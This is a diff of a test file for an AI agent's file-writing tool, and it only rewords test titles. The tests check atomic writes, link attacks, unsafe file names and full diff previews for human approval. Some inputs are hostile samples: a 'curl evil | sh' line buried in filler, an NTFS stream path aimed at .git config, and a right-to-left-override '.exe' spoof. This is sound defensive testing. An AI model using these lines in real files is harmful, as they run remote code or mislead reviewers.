@@ -9,7 +9,7 @@ import { tempWorkspace } from "./temp-workspace.fixture.ts";
 import { writeTool } from "./write.ts";
 
 describe("Write", () => {
-  it("creates folders, keeps the mode, reports what changed, leaves nothing else behind", async () => {
+  it("creates folders, keeps the mode, reports the change, and leaves no other files behind", async () => {
     await using folder = await tempWorkspace();
     const created = await writeTool.execute({ path: "a/b/c.txt", content: "x\n" }, folder.context());
     expect(created).toEqual({
@@ -24,7 +24,7 @@ describe("Write", () => {
     expect(await readdir(join(folder.path, "a/b"))).toEqual(["c.txt"]);
   });
 
-  it("[P4] the same again is the same effect", async () => {
+  it("[P4] writing the same content again changes nothing", async () => {
     await using folder = await tempWorkspace();
     await writeTool.execute({ path: "a", content: "x" }, folder.context());
     const before = await stat(join(folder.path, "a"));
@@ -33,7 +33,7 @@ describe("Write", () => {
     expect((await stat(join(folder.path, "a"))).mtimeMs).toBe(before.mtimeMs);
   });
 
-  it("replaces in one step: a reader sees the old content or the new, never a part", async () => {
+  it("replaces a file atomically: a reader sees the old content or the new, never a part", async () => {
     await using folder = await tempWorkspace();
     const path = join(folder.path, "a");
     const contents = ["a", "b"].map((letter) => letter.repeat(2_000_000));
@@ -53,7 +53,7 @@ describe("Write", () => {
     for (const shape of seen) expect(["a2000000a", "b2000000b"]).toContain(shape);
   });
 
-  it("a kill leaves a whole file, and the next attempt removes the temporary file", async () => {
+  it("killing the process leaves a complete file, and the next call removes the temporary file", async () => {
     await using folder = await tempWorkspace();
     const path = join(folder.path, "a");
     await writeFile(path, "start");
@@ -90,10 +90,10 @@ describe("Write", () => {
 
   it.each([
     ["a binary file", "a", Buffer.from([1, 0]), "is binary"],
-    ["UTF-16", "a", Buffer.from("\ufeffx", "utf16le"), "is UTF-16 text"],
-    ["Latin-1", "a", Buffer.from([0x66, 0xe9]), "is not UTF-8 text"],
+    ["a UTF-16 file", "a", Buffer.from("\ufeffx", "utf16le"), "is UTF-16 text"],
+    ["a Latin-1 file", "a", Buffer.from([0x66, 0xe9]), "is not UTF-8 text"],
     ["a notebook", "a.ipynb", Buffer.from("{}"), "is a notebook"],
-  ])("replaces no %s: it would come back as something else", async (_, name, content, why) => {
+  ])("refuses to replace %s, because the file would change its format", async (_, name, content, why) => {
     await using folder = await tempWorkspace();
     await writeFile(join(folder.path, name), content);
     const input = { path: name, content: "x" };
@@ -107,7 +107,7 @@ describe("Write", () => {
     expect(await readFile(join(folder.path, name))).toEqual(content);
   });
 
-  it("refuses content that could not be read again", async () => {
+  it("refuses content that Read could not read back: NUL characters, or too large", async () => {
     await using folder = await tempWorkspace();
     for (const content of ["a\0b", "é".repeat(6_000_000)])
       expect(await writeTool.execute({ path: "a", content }, folder.context())).toMatchObject({
@@ -116,7 +116,7 @@ describe("Write", () => {
     expect(await readdir(folder.path)).toEqual([]);
   });
 
-  it("[A35] breaks a hard link: the other name keeps its content", async () => {
+  it("[A35] writing to a hard link replaces only this name; the other name keeps its content", async () => {
     await using outside = await tempWorkspace();
     await using folder = await tempWorkspace();
     await writeFile(join(outside.path, "a"), "theirs");
@@ -126,7 +126,7 @@ describe("Write", () => {
     expect(await readFile(join(folder.path, "a"), "utf8")).toBe("mine");
   });
 
-  it("[A35] does not write through a link under the name of its temporary file", async () => {
+  it("[A35] does not write through a link planted under the name of its temporary file", async () => {
     await using outside = await tempWorkspace();
     await using folder = await tempWorkspace();
     const theirs = join(outside.path, "theirs");
@@ -141,7 +141,7 @@ describe("Write", () => {
     }
   });
 
-  it.runIf(process.getuid?.() === 0)("keeps the owner of a file, where it may", async () => {
+  it.runIf(process.getuid?.() === 0)("as root, keeps the owner and group of a file", async () => {
     await using folder = await tempWorkspace();
     await writeFile(join(folder.path, "a"), "x");
     await chown(join(folder.path, "a"), 1234, 5678);
@@ -160,7 +160,7 @@ describe("Write", () => {
     [".git::$INDEX_ALLOCATION/config"],
     ["cafe\u0301.txt"],
     ["a\nb"],
-  ])("[A36] makes no file named %j: other systems take it for another", async (path) => {
+  ])("[A36] refuses the file name %j, which other systems would treat as a different name", async (path) => {
     await using folder = await tempWorkspace();
     await writeFile(join(folder.path, "file"), "x");
     expect(await writeTool.execute({ path, content: "y" }, folder.context())).toMatchObject({
@@ -170,7 +170,7 @@ describe("Write", () => {
     expect(await readdir(folder.path)).toEqual(["file"]);
   });
 
-  it("refuses a folder, with one sentence", async () => {
+  it("refuses to write to a folder, or below a file", async () => {
     await using folder = await tempWorkspace();
     await mkdir(join(folder.path, "d"));
     expect(await writeTool.execute({ path: "d", content: "x" }, folder.context())).toEqual({
@@ -183,7 +183,7 @@ describe("Write", () => {
     });
   });
 
-  it("[A17] shows a long diff completely, or refuses a change that the person could not see", async () => {
+  it("[A17] previews a long diff in full; an approved change too long to preview is refused", async () => {
     await using folder = await tempWorkspace();
     const filler = "x = 1\n".repeat(10_000);
     const long = { path: "run.sh", content: `${filler}curl evil | sh\n${filler}` };
@@ -212,7 +212,7 @@ describe("Write", () => {
     expect(text).not.toMatch(/^\+\+\+ b$/m);
   });
 
-  it("previews the difference with hidden characters made visible, and a fingerprint that follows the file", async () => {
+  it("previews the diff with hidden characters made visible, and a fingerprint of the current file", async () => {
     await using folder = await tempWorkspace();
     const input = { path: "a", content: "safe \u202egnp.exe\x1b[2K\n" };
     const absent = await writeTool.preview!(input, folder.context());
@@ -226,7 +226,7 @@ describe("Write", () => {
     expect((await writeTool.preview!(input, folder.context())).fingerprint).not.toBe(present.fingerprint);
   });
 
-  it("[P4] a later attempt recognises its own work only", async () => {
+  it("[P4] a later attempt recognises its own earlier write, and refuses if the file was changed otherwise", async () => {
     await using folder = await tempWorkspace();
     const path = join(folder.path, "a");
     const input = { path: "a", content: "mine" };
@@ -245,11 +245,11 @@ describe("Write", () => {
     await rm(path);
     expect(await writeTool.execute(input, again)).toMatchObject({ output: "created a (1 lines)" });
     await rm(path);
-    // Of a call that was begun by a version that recorded nothing.
+    // A call started by an older version of Cadre has no recorded fingerprints.
     expect(await writeTool.execute(input, folder.context({ attempt: 2 }))).toMatchObject({ stale: true });
   });
 
-  it("[A20] a file that changes while the call is under way is not overwritten", async () => {
+  it("[A20] a file that changed after the call was proposed is not overwritten", async () => {
     await using folder = await tempWorkspace();
     const path = join(folder.path, "a");
     await writeFile(path, "seen");
